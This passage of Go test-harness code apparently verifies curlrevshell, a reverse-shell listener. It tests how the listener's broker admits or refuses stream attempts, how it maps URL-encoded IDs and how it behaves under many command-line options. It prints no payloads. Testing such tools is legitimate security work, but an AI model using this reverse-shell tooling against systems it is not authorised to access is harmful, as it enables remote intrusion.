				h = append(h, Sym{Op: "ioprep"})
			case 1:
				h = append(h, Sym{Op: "ioadmit", Arg: "input"})
			case 2:
				h = append(h, Sym{Op: "ioadmit", Arg: "output"})
			default:
				h = append(h, Sym{Op: "probe"})
			}
		default:
			if i > n/2 {
				h = append(h, Sym{Op: "shutdown"})
			} else {
				h = append(h, Sym{Op: "probe"})
			}
		}
	}
	return h
}

// directed returns hand-made scenarios: each refusal reason x direction x
// uni/bidir, related IDs, attempts inside each tear-down window, after shutdown.
func directed() [][]Sym {
	var out [][]Sym
	in := func(k string) Sym { return Sym{Op: "in", Key: k} }
	o := func(k string) Sym { return Sym{Op: "out", Key: k} }
	io := Sym{Op: "io", Arg: "infirst"}
	io2 := Sym{Op: "io", Arg: "outfirst"}
	// related IDs against an attached half, both directions
	for _, a := range IDs {
		for _, b := range IDs {
			out = append(out, []Sym{in(a), o(b), {Op: "probe"}, in(b), o(a)})
			out = append(out, []Sym{o(a), in(b), {Op: "probe"}})
		}
	}
	// duplicates
	out = append(out, []Sym{in("k"), in("k"), o("k"), o("k"), in("k"), {Op: "probe"}})
	out = append(out, []Sym{io, io, io2, in("k"), o("k")})
	out = append(out, []Sym{in("k"), io, io2}, []Sym{o("k"), io, io2}, []Sym{in("k"), o("k"), io})
	// tear-down windows: hold each side, attempt everything inside
	inside := []Sym{in("k"), o("k"), in("z"), o("z"), io, io2, {Op: "probe"}}
	for _, first := range []string{"in", "out"} {
		for _, base := range [][]Sym{{in("k"), o("k")}, {io}} {
			h := append([]Sym{}, base...)
			if first == "in" {
				h = append(h, Sym{Op: "holdout"}, Sym{Op: "endin", Arg: "cancel"})
			} else {
				h = append(h, Sym{Op: "holdin"}, Sym{Op: "endout", Arg: "eof"})
			}
			h = append(h, inside...)
			h = append(h, Sym{Op: "unhold"}, in("n"), o("n"), Sym{Op: "probe"})
			out = append(out, h)
		}
	}
	// a stream that ended but has not reached its release section yet
	out = append(out, []Sym{in("k"), o("k"), {Op: "holdin"}, {Op: "endin", Arg: "cancel"}, in("k"), o("k"), in("z"), {Op: "probe"}, {Op: "unhold"}, in("k"), {Op: "probe"}})
	out = append(out, []Sym{in("k"), {Op: "holdin"}, {Op: "endin", Arg: "werr"}, in("k"), o("z"), {Op: "probe"}, {Op: "unhold"}})
	// an /io request one half of which is refused while the other half is decided later, in another state
	prep, ai, ao := Sym{Op: "ioprep"}, Sym{Op: "ioadmit", Arg: "input"}, Sym{Op: "ioadmit", Arg: "output"}
	for _, base := range [][]Sym{{io}, {in("k"), o("k")}, {in("k")}, {o("k")}} {
		for _, firstHalf := range []Sym{ai, ao} {
			second := ao
			if firstHalf.Arg == "output" {
				second = ai
			}
			h := append(append([]Sym{}, base...), prep, firstHalf, Sym{Op: "probe"}, Sym{Op: "endboth", Arg: "infirst"}, second, Sym{Op: "probe"}, in("n"), o("n"), Sym{Op: "probe"})
			out = append(out, h)
		}
	}
	// one side refused and still on its way out of Connect when the other side is decided
	for _, base := range [][]Sym{{io}, {in("k"), o("k")}, {in("k")}, {o("k")}} {
		for _, firstHalf := range []string{"input", "output"} {
			second := "output"
			if firstHalf == "output" {
				second = "input"
			}
			out = append(out, append(append([]Sym{}, base...), prep, Sym{Op: "ioadmit-parkdone", Arg: firstHalf}, Sym{Op: "endboth", Arg: "infirst"},
				Sym{Op: "ioadmit", Arg: second}, Sym{Op: "probe"}, Sym{Op: "iodone"}, Sym{Op: "probe"}, in("n"), o("n"), Sym{Op: "probe"}))
		}
	}
	// half admitted first, sibling refused afterwards
	out = append(out, []Sym{o("k"), prep, ai, ao, {Op: "probe"}, in("k"), {Op: "probe"}})
	out = append(out, []Sym{in("k"), prep, ao, ai, {Op: "probe"}, o("k"), {Op: "probe"}})
	// shutdown
	out = append(out, []Sym{{Op: "shutdown"}, in("k"), o("k"), io, in(""), {Op: "probe"}})
	out = append(out, []Sym{in("k"), o("k"), {Op: "shutdown"}, in("k"), o("z"), {Op: "probe"}, {Op: "endin", Arg: "cancel"}, in("k"), io})
	out = append(out, []Sym{io, {Op: "shutdown"}, {Op: "probe"}, {Op: "endout", Arg: "eof"}, io2, in("k")})
	// every ending, then a fresh shell with another id
	for _, e := range []Sym{{Op: "endin", Arg: "cancel"}, {Op: "endin", Arg: "werr"}, {Op: "endin", Arg: "ferr"}, {Op: "endout", Arg: "cancel"}, {Op: "endout", Arg: "eof"}, {Op: "endout", Arg: "err"}, {Op: "endout", Arg: "dataerr"},
		{Op: "endboth", Arg: "infirst", Arg2: "cancel+eof"}, {Op: "endboth", Arg: "outfirst", Arg2: "werr+dataerr"}} {
		out = append(out, []Sym{in("k"), o("k"), {Op: "probe"}, e, o("K"), in("K"), {Op: "probe"}, in("k")})
		out = append(out, []Sym{io, {Op: "probe"}, e, io2, {Op: "probe"}})
	}
	return out
}

func histString(h []Sym) string {
	p := make([]string, len(h))
	for i, s := range h {
		p[i] = s.String()
	}
	return strings.Join(p, "; ")
}

// Run is the entry point.
func Run(r *mon.Run) {
	r.Rule = "gate mode: one broker per history; operations (attempts on in/out/io with related IDs, endings of each kind, holds inside the tear-down window, shutdown, probes) are executed one at a time, the verif hook parks every admission and release so the serialisation order is chosen by the harness; each decision is judged against a one-sided model (must-refuse), then probes check that I/O flows exactly to the live streams. A history is non-trivial if at least one attempt was decided in a state where some stream was attached, tearing down or the broker shut down; distinct = distinct (operations, decisions) traces. engine aged: the tear-down and wrong-ID refusals again after 17 s (thorough also 35 s and 65 s) of real time inside a stuck tear-down or half-attached state. engine lockq: attempts decided while others are already QUEUED for the broker: one stream (a half of an /io request that is being refused for the state of the previous shell - tearing down after an /io or a two-stream shell, a half-attached or fully attached shell whose streams have ended but not yet reached their release section - or an ID-less stranger) is kept inside the broker by a stalled operator terminal behind an exactly full operator channel (capacity 0/1/2/5); behind it queue, in a case-chosen order, the last stream(s) of the previous shell going for their release section and the undecided half/halves of the /io request, an operator line pending all the time; then the terminal resumes. Verdicts from the one event log: no half of an /io request is attached after the other half's refusal record (one attempt), a request whose first decision was a refusal gets no operator input and shows no output, returns, and the operator is told; the half decided with everything else parked must be refused; that holder and queue really overlapped is shown from the log (notice displayed as line capacity+2 or later after the stall, hook points passed before and decisions after the resume note) and is a floor. engine patience (runs alongside the others): every refusal reason (missing ID with nothing / something attached / during tear-down, wrong ID, second stream of a direction, unidirectional onto bidirectional, /io onto a half or full unidirectional shell with either half decided first, /io onto /io, /io or unidirectional onto a half-attached /io, unidirectional and /io during the tear-down of a two-stream or /io shell) decided while the operator's terminal takes nothing for 4 s, 8 s, 16 s and 31 s (thorough: also 65 s) of real time behind an exactly full operator channel (capacity 0/1/2/5/1024), in half of the states with the attached shell still printing; one world per (reason, stall), all at once; after the terminal resumes and a closing marker has gone through it: the attempt was attached in no direction, it has returned (bounded wait of 30 s after the resume), a red notice naming its address has been displayed, it got no operator input and none of its output was shown; that the refusal record precedes the resume note by at least the stall and the notice was handed over only after it (displayed as line capacity+2 or later) is a floor for every case. engines giveup and giveupq (run alongside the others): UNIDIRECTIONAL attempts (in and out; same ID as the attached stream = second stream completing a shell, other / related / empty ID, same direction, first stream of a new shell on a fresh broker or after a shell has gone, onto a half or full /io, inside a tear-down) that the broker gets to decide only AFTER the program's context - and with it the attempt's own - has been cancelled and BEFORE Do has reacted. giveup (gate mode): a directed or PRNG-drawn history builds the state, then one to three such attempts (context cancelled while parked at the admission point, or made with a context that is already done) are decided one at a time with an operator line pending, then the cancellation reaches Do (the shutdown operation) and the history goes on. giveupq (real lock queue): the broker is kept busy by an ID-less stranger stuck on its notice behind a stalled terminal and an exactly full operator channel (capacity 0/1/2/5); the attempt is queued for the broker's lock, or parked at the admission point, or not yet made, when the attempt's and Do's contexts are cancelled (in a case-chosen order, both while the broker is busy, so Do's reaction waits for the lock too), then the terminal resumes. Verdicts for both: no New connection record for such an attempt, nothing written to it, none of its output displayed, it returns; which of the attempt and Do gets the lock first decides nothing. That the cancellation fell between the stranger's record and the resume note, the attempt had passed its admission point before the note and was decided after it is shown from the log and is a floor, as are the number of attempts in states where nothing but the shutdown forbids them and (giveupq) of attempts that left a record, i.e. were taken up before Do had closed the door. stress mode: free-running goroutines with random yields at the hook points, boundary history checked with porcupine. engine http: the in-process server is started in eight configurations (default, -serve-files-from directory / single file, -callback-template, dozens of -callback-address, -ipv6-one-liners, explicit certificate cache, directory + template), the pairs of ID spellings are spread over them. engine cfg (runs alongside the others): CONFIGURATION MATRIX on the real binary on a pty - every documented option alone (-one-shell in two spellings, -serve-files-from directory / single file / empty / name with spaces at the edges / relative ../ symlinked spelling / given twice, -callback-template file / symlink / missing, -no-timestamps, -log, CURLREVSHELL_LOG, -ctrl-i file / directory / missing name with % and space, -callback-address one / 36, -ipv6-one-liners, -tls-certificate-cache inside the served directory / empty, -prompt, --flag=value spellings), six fixed pairs and pairs drawn by index with a seed-dependent offset; one session each, same oracle as in the default configuration: a shell one attaches on /i/one + /o/one; eight attempts that must be refused (other ID, same ID second stream, /io, on /i and /o; request bodies that have NOT ended: chunked with nothing / one / three chunks sent, or a declared length of 5000 / 70000 bytes of which a few dozen arrived, no Expect) are made, half of them (with -one-shell all of them) on TLS connections that were opened before the shell attached and speak only now; each must be answered completely or disconnected (bounded wait 20 s, the property is about the attempt being ended), the operator's terminal must show a notice naming its address, a typed probe line reaches only the shell, none of their output tokens is ever on the terminal. Then the shell ends; without -one-shell Ctrl+D is typed and Goodbye awaited (the program's shutdown), and two more connections older than the shell make their FIRST attempt (/i/two + /o/two, or /io, with output): their output must never be displayed, a line typed after a second ready notice must not reach them, they must be ended; with -one-shell the same attempts are made once an idle connection has been closed by the program (or after 1 s) and what becomes of them is COUNTED, not judged (see assumptions)"
	r.Assumptions = []string{"the three verifPoint hook calls are outside b.mu, so parking there only stretches windows that exist", "attempts overlapping Do's cancellation may go either way (shutdown window) as far as their context is still live when they are decided (in bk.World an attempt's context does not hang off Do's)", "giveup/giveupq: in the program every request's context and the context Do runs under hang off the one program context; cancelling that one reaches the descendants one after the other in no particular order, and Do needs the broker's lock to react; the program is shutting down from the moment its context is cancelled, so an attempt whose own context is done because of that when the broker decides it is an attempt made while the program is shutting down, whether or not Do has reacted yet; the harness cancels the attempt's context and Do's separately (both orders) to stand for that one cancellation; a client that merely went away, with the program staying up, is NOT judged by these engines (every case shuts down); no notice is demanded (shutdown); the lock hand-over order between the attempt and Do's reaction is the runtime's business and no verdict depends on it", "porcupine v1.3.0", "lockq: between passing the admit/release hook point and its decision a stream does nothing but wait for the broker's lock; in which order the lock is handed to those waiting is the runtime's business and no verdict depends on it (a request both halves of which are attached after the tear-down completed is accepted as the new shell)", "cfg: the property does not depend on the configuration; the program is shutting down once the terminal shows main's Goodbye after Ctrl+D at the prompt; with -one-shell, after the one shell has gone the HTTP server winds down (since fix 0610514 it closes what is left), but the BROKER is told to shut down only when the server has finished - in the statement's terms ('histories of attempts, endings and shutdown serialised by the broker') an attempt that slips in on an older connection in between meets an idle broker, and whether it is admitted for the instant before its connection is closed is not promised either way (seen once in twelve seeds: a request served about 1 ms after 'Shell is gone', in the middle of http.Server.Close walking its connections); it is counted (cfg_one_shell_aftermath_*) and, like in C12's late engine, never judged (a race-built binary lingers about a second after that with its goroutines still running); a connection older than the shell that the server closed before it said anything made no attempt (counted, not judged); a refusal notice is required during a -one-shell shell only if the attempt got an HTTP response; no notice is required for attempts during shutdown; the 1 s after 'Shell is gone'/Ctrl+D only chooses when the late attempts speak, no verdict is taken from a clock except the 20 s bounds on 'ended'", "patience: 'the operator is told' carries no time limit: a notice about a refusal may be late for as long as the terminal does not take output, but it must be on the terminal once everything sent before the refused Connect call returned has been displayed; a refused attempt need not return while the terminal is stalled (telling the operator is part of refusing), only after it resumes; time is consulted only to let the stall last and to count (floor) that it did"}

	// patience: refusals that sit out a terminal stalled for seconds; the cases do little but wait, so they
	// run alongside everything else
	patienceDone := make(chan struct{})
	go func() {
		defer close(patienceDone)
		if r.WantEngine("patience") {
			patience(r)
		}
	}()

	// cfg: the real binary under its other documented options; the sessions mostly wait for the
	// program, so they run alongside everything else as well
	cfgDone := make(chan struct{})
	go func() {
		defer close(cfgDone)
		if r.WantEngine("cfg") {
			cfgMatrix(r)
		}
	}()

	// giveup / giveupq: unidirectional attempts whose turn comes after the program's context was cancelled
	// and before Do has reacted; mostly waiting (bounded hand-shakes, a stalled terminal), so alongside as well
	giveupDone := make(chan struct{})
	go func() {
		defer close(giveupDone)
		if r.WantEngine("giveup") {
			giveup(r)
		}
		if r.WantEngine("giveupq") {
			giveupq(r)
		}
	}()

	var lists [][]Sym
	d := directed()
	lists = append(lists, d...)
	nd := len(lists)
	nr := r.N(6000, 60000)
	for i := 0; i < nr; i++ {
		lists = append(lists, genHistory(r.Rng("gate", i)))
	}
	runGate(r, "gate", lists, nd)
	if r.WantEngine("aged") {
		// the same refusals after real time has passed inside a stuck tear-down (one side
		// cannot finish: a client that stopped reading) or half-attached state: a guard must
		// not lapse with age.  17 s in quick; 35 s and 65 s as well in thorough.
		var aged [][]Sym
		waits := []string{"17s"}
		if r.Thorough() {
			waits = []string{"17s", "35s", "65s"}
		}
		in := func(k string) Sym { return Sym{Op: "in", Key: k} }
		o := func(k string) Sym { return Sym{Op: "out", Key: k} }
		for _, w := range waits {
			wt := Sym{Op: "wait", Arg: w}
			aged = append(aged,
				[]Sym{in("k"), o("k"), {Op: "holdin"}, {Op: "endout", Arg: "eof"}, wt, o("x"), o("k"), in("k"), {Op: "io", Arg: "infirst"}, {Op: "unhold"}, {Op: "probe"}},
				[]Sym{in("k"), o("k"), {Op: "holdout"}, {Op: "endin", Arg: "cancel"}, wt, in("x"), in("k"), o("k"), {Op: "io", Arg: "outfirst"}, {Op: "unhold"}, {Op: "probe"}},
				[]Sym{in("k"), wt, o("x"), in("k"), in("x"), {Op: "io", Arg: "infirst"}, o("k"), {Op: "probe"}},
				[]Sym{{Op: "io", Arg: "infirst"}, {Op: "holdin"}, {Op: "endout", Arg: "eof"}, wt, {Op: "io", Arg: "outfirst"}, o("k"), {Op: "unhold"}, {Op: "probe"}},
			)
		}
		runGate(r, "aged", aged, len(aged))
		r.Count("aged_histories", int64(len(aged)))
	}

	if r.WantEngine("lockq") {
		lockq(r)
	}
	if r.Thorough() && r.WantEngine("enum") {
		enumerate(r)
	}
	if r.WantEngine("stress") {
		stress(r)
	}
	if r.WantEngine("http") {
		httpMapping(r)
	}
	<-patienceDone
	<-cfgDone
	<-giveupDone
	r.Floor("decisions", 1000)
	if r.WantEngine("aged") && !r.Replaying() {
		r.Floor("aged_histories", 4)
	}
	r.Floor("must_refuse_decisions", 300)
	r.Floor("probes_with_live_stream", 100)
}

func runGate(r *mon.Run, engine string, lists [][]Sym, ndirected int) {
	mon.Parallel(len(lists), runtime.NumCPU(), func(i int) {
		if !r.Want(engine, i) {
			return
		}
		h := lists[i]
		runOne(r, engine, i, h)
	})
	r.Count("directed_scenarios", int64(ndirected))
}

func runOne(r *mon.Run, engine string, i int, h []Sym) *bk.Exec {
	rng := r.Rng(engine+"-cfg", i)
	ochCap := []int{0, 1, 1024}[rng.IntN(3)]
	wk := bk.WriterKind(rng.IntN(4))
	x := RunHistory(h, ochCap, wk, func(key, what string, x *bk.Exec) {
		wit := map[string]any{"history": histString(h), "och_cap": ochCap, "writer": wk.String()}
		if x != nil {
			wit["trace"] = x.Trace
			wit["log_tail"] = x.W.Log.Tail(40)
		}
		r.Violate(engine, i, key, what, wit)
	})
	r.Eval(1)
	if x == nil {
		return nil
	}
	if x.Stalled {
		r.Count("stalled_histories", 1)
	}
	nd := 0
	for k, v := range x.Decisions {
		r.Count("decision:"+k, int64(v))
		nd += v
	}
	r.Count("decisions", int64(nd))
	r.Count("must_refuse_decisions", int64(x.NMustRefuse))
	r.Count("refusals_not_demanded_by_c01", int64(x.LenientRef))
	r.Count("generations", int64(len(x.GenClosed)))
	r.Count("probes_with_live_stream", int64(x.ProbesLive))
	r.Count("probes_without_live_stream", int64(x.ProbesIdle))
	r.Count("events_logged", int64(x.W.Log.Len()))
	if x.NMustRefuse > 0 {
		r.Distinct(strings.Join(x.Trace, "|"))
	}
	for _, t := range x.Trace {
		if strings.HasPrefix(t, "admit") {
			// interleaving/state signature of the decision
			if j := strings.Index(t, "->"); j > 0 {
				r.Count("state-sig:"+sigOf(t), 1)
			}
		}
	}
	if i < 2 || (i%997 == 0) {
		r.Sample(engine, map[string]any{"history": histString(h), "trace": x.Trace})
	}
	_ = nd
	return x
}

func sigOf(t string) string {
	// "admit a3/input(in,key="k") -> Reason (model: must-refuse=true why)"
	j := strings.Index(t, "->")
	k := strings.Index(t, "(model:")
	if j < 0 || k < 0 {
		return "?"
	}
	kind := "uni"
	if strings.Contains(t[:j], "(io,") {
		kind = "io"
	}
	return kind + ":" + strings.TrimSpace(t[j+2:k]) + "/" + strings.TrimSuffix(strings.TrimSpace(t[k+7:]), ")")
}

func enumerate(r *mon.Run) {
	// all histories of length 1..4 over the 17-symbol alphabet
	var lists [][]Sym
	n := len(Alphabet17)
	for l := 1; l <= 4; l++ {
		total := 1
		for k := 0; k < l; k++ {
			total *= n
		}
		for c := 0; c < total; c++ {
			h := make([]Sym, l)
			v := c
			for k := 0; k < l; k++ {
				h[k] = Alphabet17[v%n]
				v /= n
			}
			lists = append(lists, h)
		}
	}
	r.Count("enumerated_histories", int64(len(lists)))
	r.Extra("enumeration", fmt.Sprintf("all %d histories of length 1..4 over a %d-symbol alphabet", len(lists), n))
	mon.Parallel(len(lists), runtime.NumCPU(), func(i int) {
		if !r.Want("enum", i) {
			return
		}
		runOne(r, "enum", i, lists[i])
	})
}

package c01

import (
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/internal/hsrv"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

// spellings of request-path IDs: (raw path segment, decoded ID)
var pathIDs = [][2]string{
	{"k", "k"}, {"K", "K"}, {"%6b", "k"}, {"%6B", "k"}, {"%4B", "K"}, {"k1", "k1"}, {"kk", "kk"},
	{"a%2Fb", "a/b"}, {"a%2fb", "a/b"}, {"a%252Fb", "a%2Fb"}, {"k%20", "k "}, {"k+", "k+"}, {"%C3%A9", "é"}, {"%c3%a9", "é"},
	{"k%00", "k\x00"}, {"%25s", "%s"}, {"..k", "..k"}, {"k.", "k."},
}

// long IDs: pairs that differ only after a long common prefix (just beyond 64,
// 255/256, 1024 and 4096 bytes), and an ID next to its own 64-byte prefix
func init() {
	rep := func(c string, n int) string { return strings.Repeat(c, n) }
	for _, id := range []string{
		rep("x", 63), rep("x", 64), rep("x", 64) + "a", rep("x", 64) + "b",
		rep("y", 255) + "1", rep("y", 255) + "2", rep("y", 256) + "1",
		rep("z", 1024) + "p", rep("z", 1024) + "q",
		rep("w", 4096) + "A", rep("w", 4096) + "B",
	} {
		pathIDs = append(pathIDs, [2]string{id, id})
	}
}

// httpMapping: through the real mux over TLS, the ID in /i/{id} and /o/{id}
// reaches the broker byte-exact (after one URL decoding), and a refused
// request ends at once with no operator input.
func httpMapping(r *mon.Run) {
	type pair struct{ a, b int }
	var pairs []pair
	for a := range pathIDs {
		for b := range pathIDs {
			pairs = append(pairs, pair{a, b})
		}
	}
	nsrv := 8
	mon.Parallel(nsrv, runtime.NumCPU(), func(si int) {
		cfg, cfgName, err := httpConfig(r, si)
		if err != nil {
			r.Inconclusive("fixtures: " + err.Error())
			return
		}
		s, err := hk.Start(cfg)
		if err != nil {
			r.Inconclusive("server: " + err.Error())
			return
		}
		defer s.Stop()
		nviol := 0
		for pi := si; pi < len(pairs) && nviol < 3; pi += nsrv {
			if !r.Want("http", pi) {
				continue
			}
			p := pairs[pi]
			rawA, idA := pathIDs[p.a][0], pathIDs[p.a][1]
			rawB, idB := pathIDs[p.b][0], pathIDs[p.b][1]
			outFirst := pi%2 == 1
			viol := func(key, what string) {
				nviol++
				r.Violate("http", pi, key, what+" [server configuration: "+cfgName+"]", map[string]any{"configuration": cfgName, "first": rawA, "second": rawB, "out_first": outFirst, "log_tail": s.Log.Tail(25)})
			}
			from, _ := s.Mark(fmt.Sprintf("MARK-a-%d", pi))
			var in *crs.InStream
			var out *crs.OutStream
			// first stream
			if outFirst {
				out, err = crs.OpenOut(s.Addr, "/o/"+rawA)
			} else {
				in, err = crs.OpenIn(s.Addr, "/i/"+rawA)
			}
			if err != nil {
				r.Inconclusive(err.Error())
				continue
			}
			if _, ok := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool {
				return e.Kind == "op" && strings.Contains(e.S, "connected: ID "+fmt.Sprintf("%q", idA))
			}); !ok {
				viol("http-id-not-passed-verbatim", fmt.Sprintf("stream on %q did not attach with the decoded ID %q", rawA, idA))
				closeAll(in, out)
				continue
			}
			// second stream, other direction
			t0 := time.Now()
			var in2 *crs.InStream
			var out2 *crs.OutStream
			if outFirst {
				in2, err = crs.OpenIn(s.Addr, "/i/"+rawB)
			} else {
				// the upload is chunked (curl -T-) or announces a length of which only the
				// beginning ever arrives (curl -T file from a slow producer): 100 B to 200 KiB
				// outstanding
				if pi%3 == 1 {
					out2, err = crs.OpenOutLen(s.Addr, "/o/"+rawB, int64([]int{121, 5000, 70000, 200000}[pi/3%4]))
					r.Count("http_second_uploads_with_declared_length", 1)
				} else {
					out2, err = crs.OpenOut(s.Addr, "/o/"+rawB)
				}
				if err == nil {
					out2.Send("SECOND-STREAM-OUTPUT;")
				}
			}
			if err != nil {
				r.Inconclusive(err.Error())
				closeAll(in, out)
				continue
			}
			ev, ok := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool {
				return e.Kind == "op" && (strings.Contains(e.S, "Shell is ready") || strings.Contains(e.S, "Rejected"))
			})
			admitted := ok && strings.Contains(ev.S, "ready")
			r.Eval(1)
			r.Count("http_pairs", 1)
			r.Count("http_cfg:"+cfgName, 1)
			r.Distinct("http|" + rawA + "|" + rawB + fmt.Sprint(outFirst))
			switch {
			case !ok:
				viol("http-second-stream-undecided", "neither a ready notice nor a refusal notice for the second stream")
			case admitted && idA != idB:
				viol("admitted-different-id", fmt.Sprintf("/%s with ID %q was attached to a shell whose other side has ID %q", map[bool]string{true: "i", false: "o"}[outFirst], idB, idA))
			case !admitted && idA == idB:
				r.Count("http_equal_ids_refused", 1) // acceptance is judged by C04/C07, not here
			}
			if admitted {
				r.Count("http_pairs_admitted", 1)
			} else if ok {
				r.Count("http_pairs_refused", 1)
				// the refused request is ended at once: the client sees the response end
				if in2 != nil {
					in2.C.SetReadDeadline(time.Now().Add(hk.Bound))
					err := in2.Header(hk.Bound)
					var extra []byte
					if err == nil {
						buf := make([]byte, 256)
						n, _ := in2.Resp.Body.Read(buf)
						extra = buf[:n]
					}
					if len(extra) > 0 {
						viol("refused-input-got-bytes", fmt.Sprintf("refused /i request received %q", extra))
					}
					if time.Since(t0) > hk.Bound {
						viol("refused-attempt-not-ended", "refused /i request was not ended")
					}
				}
				if out2 != nil {
					// the refused client keeps its request body open; it must still be answered at once
					out2.C.SetReadDeadline(time.Now().Add(hk.Bound))
					if _, err := hk.ReadResponse(out2.C.R, []byte("POST ")); err != nil {
						viol("refused-attempt-not-ended", fmt.Sprintf("refused /o request got no response: %v", err))
					}
				}
			}
			// probe: an operator line goes to the first stream's shell only
			if !outFirst {
				s.Ich <- fmt.Sprintf("probe-%d", pi)
				if l, err := in.ReadLine(hk.Bound); err != nil || l != fmt.Sprintf("probe-%d", pi) {
					viol("live-input-not-fed", fmt.Sprintf("probe line did not reach the attached input: %q %v", l, err))
				}
			}
			closeAll(in, out)
			closeAll(in2, out2)
			s.Log.Wait(from, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "Shell is gone") })
			to, _ := s.Mark(fmt.Sprintf("MARK-b-%d", pi))
			if !admitted {
				for _, e := range s.OpLines(from, to) {
					if e.Plain && strings.Contains(e.S, "SECOND-STREAM-OUTPUT") {
						viol("refused-output-displayed", "output of the refused /o request was displayed")
					}
				}
			}
			// drain a probe line that nobody took
			select {
			case <-s.Ich:
			default:
			}
		}
	})
	_ = url.PathEscape
	for _, n := range httpConfigNames {
		r.Floor("http_cfg:"+n, 20)
	}
	r.Floor("http_pairs", 200)
	r.Floor("http_pairs_refused", 100)
	r.Floor("http_second_uploads_with_declared_length", 50)
	r.Floor("http_pairs_admitted", 20)
}

func closeAll(in *crs.InStream, out *crs.OutStream) {
	if in != nil {
		in.Close()
	}
	if out != nil {
		out.Close()
	}
}

var httpConfigNames = []string{"default", "serve-dir", "serve-file", "callback-template", "callback-addresses", "ipv6-one-liners", "certificate-cache", "serve-dir+callback-template"}

// httpConfig is the configuration of the si-th in-process server.
func httpConfig(r *mon.Run, si int) (hk.Config, string, error) {
	d := filepath.Join(r.Work, fmt.Sprintf("httpcfg-%d", si))
	if err := os.MkdirAll(filepath.Join(d, "files"), 0o755); err != nil {
		return hk.Config{}, "", err
	}
	for n, c := range map[string]string{"files/a.txt": "a\n", "one.txt": "one\n", "tmpl": hsrv.DefaultTemplate} {
		if err := os.WriteFile(filepath.Join(d, n), []byte(c), 0o644); err != nil {
			return hk.Config{}, "", err
		}
	}
	var c hk.Config
	switch si % len(httpConfigNames) {
	case 1:
		c.FDir = filepath.Join(d, "files")
	case 2:
		c.FDir = filepath.Join(d, "one.txt")
	case 3:
		c.TmplF = filepath.Join(d, "tmpl")
	case 4:
		for i := 0; i < 30; i++ {
			c.CBAddrs = append(c.CBAddrs, fmt.Sprintf("h%d.example.org:%d", i, 4000+i))
		}
	case 5:
		c.PrintIPv6 = true
	case 6:
		c.CertFile = filepath.Join(d, "cert.txtar")
	case 7:
		c.FDir = filepath.Join(d, "files")
		c.TmplF = filepath.Join(d, "tmpl")
	}
	return c, httpConfigNames[si%len(httpConfigNames)], nil
}

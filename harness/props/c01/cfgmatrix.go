package c01

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/hsrv"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

// cfgOpt is one documented, non-default option of the program (one cell of
// the configuration matrix).  d is the session's fixture directory; the
// program runs with d/home as HOME and working directory.
type cfgOpt struct {
	name string
	one  bool // the option turns -one-shell on
	args func(d string) []string
	env  func(d string) []string
}

func fixed(a ...string) func(string) []string { return func(string) []string { return a } }

var cfgOpts = []cfgOpt{
	{name: "one-shell", one: true, args: fixed("-one-shell")},
	{name: "one-shell=true", one: true, args: fixed("--one-shell=true")},
	{name: "serve-dir", args: func(d string) []string { return []string{"-serve-files-from", filepath.Join(d, "files")} }},
	{name: "serve-file", args: func(d string) []string { return []string{"-serve-files-from", filepath.Join(d, "onefile.txt")} }},
	{name: "serve-empty", args: fixed("-serve-files-from=")},
	{name: "serve-edge-spaces", args: func(d string) []string { return []string{"--serve-files-from=" + filepath.Join(d, " edge ")} }},
	{name: "serve-rel-dotdot-symlink", args: fixed("-serve-files-from", "../files/../link")},
	{name: "serve-twice", args: func(d string) []string {
		return []string{"-serve-files-from", filepath.Join(d, "onefile.txt"), "-serve-files-from", filepath.Join(d, "files")}
	}},
	{name: "tmpl-file", args: func(d string) []string { return []string{"-callback-template", filepath.Join(d, "tmpl")} }},
	{name: "tmpl-symlink", args: func(d string) []string { return []string{"--callback-template=" + filepath.Join(d, "tmpl.lnk")} }},
	{name: "tmpl-missing", args: func(d string) []string { return []string{"-callback-template", filepath.Join(d, "no-such-template")} }},
	{name: "no-timestamps", args: fixed("-no-timestamps")},
	{name: "log-flag", args: func(d string) []string { return []string{"-log", filepath.Join(d, "log.json")} }},
	{name: "log-env", args: fixed(), env: func(d string) []string { return []string{"CURLREVSHELL_LOG=" + filepath.Join(d, "envlog.json")} }},
	{name: "ctrl-i-file", args: func(d string) []string { return []string{"-ctrl-i", filepath.Join(d, "ctrli.sh")} }},
	{name: "ctrl-i-dir", args: func(d string) []string { return []string{"-ctrl-i=" + filepath.Join(d, "ctrlid")} }},
	{name: "ctrl-i-missing-odd-name", args: func(d string) []string { return []string{"-ctrl-i", filepath.Join(d, "ct%l i.sh")} }},
	{name: "callback-address-one", args: fixed("-callback-address", "c01.example.com:8443")},
	{name: "callback-address-dozens", args: func(string) []string {
		var a []string
		for i := 0; i < 36; i++ {
			a = append(a, "-callback-address", fmt.Sprintf("h%d.example.net:%d", i, 1000+i))
		}
		return a
	}},
	{name: "ipv6-one-liners", args: fixed("-ipv6-one-liners")},
	{name: "cert-cache-near-served", args: func(d string) []string {
		return []string{"-tls-certificate-cache", filepath.Join(d, "files", "cert.txtar")}
	}},
	{name: "cert-cache-empty", args: fixed("-tls-certificate-cache", "")},
	{name: "prompt", args: fixed("-prompt", "c01> ")},
	{name: "listen-address=", args: fixed("--listen-address=127.0.0.1:0")},
}

// cfgFixtures creates what the options refer to.
func cfgFixtures(d string) error {
	for _, p := range []string{"home", "files", " edge ", "ctrlid"} {
		if err := os.MkdirAll(filepath.Join(d, p), 0o755); err != nil {
			return err
		}
	}
	files := map[string]string{
		"files/a.txt":        "file a\n",
		"files/sp ace.txt":   "file with a space\n",
		" edge /e.txt":       "edge\n",
		"onefile.txt":        "the one file\n",
		"tmpl":               hsrv.DefaultTemplate,
		"ctrli.sh":           "c01f() { echo c01; }\n",
		"ctrlid/one.sh":      "c01g() { echo one; }\n",
		"ctrlid/two.subr":    "echo two\n",
		"home/.placeholder":  "",
